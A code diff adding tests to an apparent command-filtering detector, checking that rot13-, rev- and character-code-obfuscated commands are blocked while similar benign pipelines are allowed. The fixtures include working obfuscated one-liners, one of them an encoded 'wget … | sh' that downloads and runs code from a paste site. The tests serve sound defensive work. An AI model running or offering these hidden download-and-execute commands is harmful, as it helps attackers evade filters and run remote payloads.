@@ -65,3 +65,39 @@ describe('other spellings of known persistence and log tampering', () => {
     expect(decision('Get-EtwTraceProvider -AutologgerName EventLog-Application', 'powershell')).toBe('allow');
   });
 });
+
+describe('text decoded by rev or a tr rotation, then run', () => {
+  it.each([
+    "echo 'jubnzv' | tr 'a-z' 'n-za-m' | sh",
+    "rev <<< 'imaohw' | sh",
+    "echo 'jtrg -dB- uggc://cnfgr.rr/e/n8Ws | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
+  ])('blocks %s', (text) => {
+    expect(decision(text, 'bash')).toBe('block');
+  });
+
+  it('the download a rotation hides is read as the download it is', () => {
+    expect(rules("echo 'jtrg -dB- uggc://cnfgr.rr/e/n8Ws | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 'bash')).toContain(
+      'dl.pipe-to-interpreter',
+    );
+  });
+
+  it('changing case, mapping punctuation and reversing fields are not decoding', () => {
+    expect(decision("echo 'ls -la' | tr a-z A-Z", 'bash')).toBe('allow');
+    expect(decision("echo \"$tok\" | tr '+/' '-_' | tr -d '='", 'bash')).toBe('allow');
+    expect(decision('cat urls.txt | rev | cut -d/ -f1 | rev', 'bash')).toBe('allow');
+  });
+});
+
+describe('text built from character codes in a variable, then run', () => {
+  it.each([
+    "$c = [char[]](71,101,116,45,80,114,111,99,101,115,115) -join ''\niex $c",
+    '$c = [char]71+[char]101+[char]116\nInvoke-Expression $c',
+  ])('blocks %s as inline building is', (text) => {
+    expect(rules(text, 'powershell')).toContain('enc.ps-built-exec');
+  });
+
+  it('a command written out in a variable, or built around an unknown value, is not hidden', () => {
+    expect(decision("$cmd = 'Get-Service spooler'\niex $cmd", 'powershell')).toBe('allow');
+    expect(decision('$cmd = "choco upgrade " + $pkg\nInvoke-Expression $cmd', 'powershell')).toBe('allow');
+  });
+});
